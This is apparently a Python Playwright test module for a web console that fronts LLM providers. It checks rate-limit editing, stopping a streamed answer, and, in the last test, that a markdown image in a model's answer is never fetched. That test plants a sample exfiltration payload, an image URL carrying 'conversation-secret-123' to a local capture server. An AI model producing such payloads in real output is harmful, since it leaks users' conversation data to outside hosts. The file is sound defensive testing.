"""Console defects that live in the browser: an emptied rate limit in the Edit form, the
Playground's Stop button mid-stream, and model output that tries to load a remote image.

Each test starts from a clean slate on the module's console server: the admin exists (made
with the CLI), every provider left by an earlier test is removed, and the test's own provider
points at its own fake upstream.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.fakes.openrouter import FakeOpenRouter, Reply

from .browser import keyed, main_title, wait_for_app
from .conftest import Console

pytestmark = pytest.mark.browser

ADMIN, PASSWORD = "pat", "pat-e2e-password"
PROVIDER = "e2e-console"
MODEL = "openai/gpt-4o-mini"
STOPPED = "Stopped before the answer was complete."


# ---- set-up through the real CLI -------------------------------------------------------


def cli_ok(console: Console, *args: str, stdin: str = "") -> str:
    done = console.cli(*args, stdin=stdin)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture
def admin(console: Console) -> str:
    """The admin account (created once per server) and no providers."""
    listed = console.cli("users", "list", "--json")
    if ADMIN not in listed.stdout:
        cli_ok(console, "users", "add", ADMIN, "--role", "admin", stdin=f"{PASSWORD}\n")
    for provider in json.loads(cli_ok(console, "providers", "list", "--json")):
        cli_ok(console, "providers", "remove", provider["name"])
    return ADMIN


def add_provider(console: Console, fake: FakeOpenRouter, api_key: str, *limits: str) -> None:
    cli_ok(
        console,
        "providers",
        "add",
        PROVIDER,
        "--base-url",
        fake.base_url,
        "--model",
        MODEL,
        "--api-key-stdin",
        *limits,
        stdin=f"{api_key}\n",
    )


def stored_limits(console: Console) -> dict:
    shown = json.loads(cli_ok(console, "providers", "show", PROVIDER, "--json"))
    return shown["config"]["rate_limit"]


# ---- browser steps ---------------------------------------------------------------------


def sign_in(page: Page, console: Console, title: str = "Playground") -> None:
    page.goto(console.url("/"))
    keyed(page, "signin_username", "input").fill(ADMIN)
    keyed(page, "signin_password", "input").fill(PASSWORD)
    keyed(page, "signin_submit", "button").click()
    expect(main_title(page)).to_have_text("Overview")  # every role's home page
    if title != "Overview":
        page.get_by_test_id("stSidebarNav").locator("a").filter(has_text=title).click()
        expect(main_title(page)).to_have_text(title)
    wait_for_app(page)


def open_providers(page: Page) -> None:
    page.get_by_test_id("stSidebarNav").locator("a").filter(has_text="Providers").click()
    expect(main_title(page)).to_have_text("Providers")
    wait_for_app(page)


_TABLE_OVERFLOW = """() => {
    const scroller = document.querySelector('[data-testid="stDataFrame"] .dvn-scroller');
    return [scroller.scrollWidth, scroller.clientWidth];
}"""


def assert_table_fits(page: Page) -> None:
    """At the tests' 1400 px viewport the Providers table needs no horizontal scrolling, so
    every column, Health included, is on screen."""
    table = page.get_by_test_id("stDataFrame").first  # the providers table comes first
    expect(table).to_be_visible()
    content, visible = page.evaluate(_TABLE_OVERFLOW)
    assert content <= visible, f"the table is {content} px wide in a {visible} px container"


def ask(page: Page, prompt: str) -> None:
    field = page.get_by_test_id("stChatInputTextArea")
    field.fill(prompt)
    field.press("Enter")


def assistant_messages(page: Page):  # noqa: ANN201 - a Playwright Locator
    return page.get_by_test_id("stChatMessage").filter(
        has=page.get_by_test_id("stChatMessageAvatarAssistant")
    )


# ---- a capture server: would record any request the browser makes to it ------------------


class _Capture(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def capture() -> Iterator[tuple[str, list[str]]]:
    """(base URL, paths requested so far) of a server on a free loopback port."""
    seen: list[str] = []
    handler = type("Capture", (_Capture,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


# ---- tests -----------------------------------------------------------------------------


def test_emptying_a_limit_in_the_edit_form_removes_it(
    console: Console, admin: str, console_page: Page, fake_upstream: FakeOpenRouter, api_key: str
) -> None:
    add_provider(
        console, fake_upstream, api_key, "--rpm", "60", "--tpm", "9000", "--concurrency", "4"
    )
    page = console_page
    sign_in(page, console)
    open_providers(page)
    assert_table_fits(page)
    page.get_by_test_id("stExpander").filter(has_text=f"Edit {PROVIDER}").locator("summary").click()
    for field in ("requests_per_minute", "tokens_per_minute", "concurrent_requests"):
        box = keyed(page, f"provider_edit_{field}", "input")
        box.fill("")
        box.press("Tab")  # leave the field, where a min_value input snapped back to 1
        expect(box).to_have_value("")
    keyed(page, "provider_edit_submit", "button").click()
    expect(page.get_by_test_id("stAlertContentSuccess")).to_contain_text(f"Saved {PROVIDER}.")
    assert stored_limits(console) == {}  # no limit is stored as no entry


def test_stop_ends_a_streaming_answer_and_the_chat_goes_on(
    console: Console, admin: str, console_page: Page, fake_upstream: FakeOpenRouter, api_key: str
) -> None:
    add_provider(console, fake_upstream, api_key)
    long_answer = " ".join(f"word{i}" for i in range(400))
    fake_upstream.always(Reply(text=long_answer, chunk_delay=0.05))  # about 20 s
    page = console_page
    sign_in(page, console)
    ask(page, "Tell me a long story")
    expect(assistant_messages(page).first).to_contain_text("word3")  # it is streaming
    keyed(page, "pg_stop", "button").click()
    stopped = assistant_messages(page).first
    expect(stopped).to_contain_text(STOPPED)
    wait_for_app(page)
    assert "word399" not in stopped.inner_text()
    expect(keyed(page, "pg_stop")).to_have_count(0)

    fake_upstream.always(Reply(text="Short and complete."))
    ask(page, "And now briefly")
    expect(assistant_messages(page).nth(1)).to_contain_text("Short and complete.")
    wait_for_app(page)
    expect(assistant_messages(page).first).to_contain_text(STOPPED)  # still marked
    expect(page.get_by_test_id("stChatMessage")).to_have_count(4)


def test_an_image_in_a_model_answer_is_never_fetched(
    console: Console,
    admin: str,
    console_page: Page,
    fake_upstream: FakeOpenRouter,
    api_key: str,
    capture: tuple[str, list[str]],
) -> None:
    capture_url, seen = capture
    exfil = f"![x]({capture_url}/exfil.png?d=conversation-secret-123)"
    fake_upstream.always(Reply(text=f"Here you go. {exfil} [more]({capture_url}/link)"))
    add_provider(console, fake_upstream, api_key)
    page = console_page
    sign_in(page, console)
    ask(page, "Show me a picture")
    answer = assistant_messages(page).first
    expect(answer).to_contain_text("Here you go.")
    wait_for_app(page)
    expect(answer).to_contain_text("exfil.png")  # shown as text instead
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("a")).to_have_count(0)
    fake_upstream.always(Reply(text="Nothing more."))
    ask(page, "Thanks")  # a new run draws the first answer again, from the history
    expect(assistant_messages(page).nth(1)).to_contain_text("Nothing more.")
    wait_for_app(page)
    assert seen == []
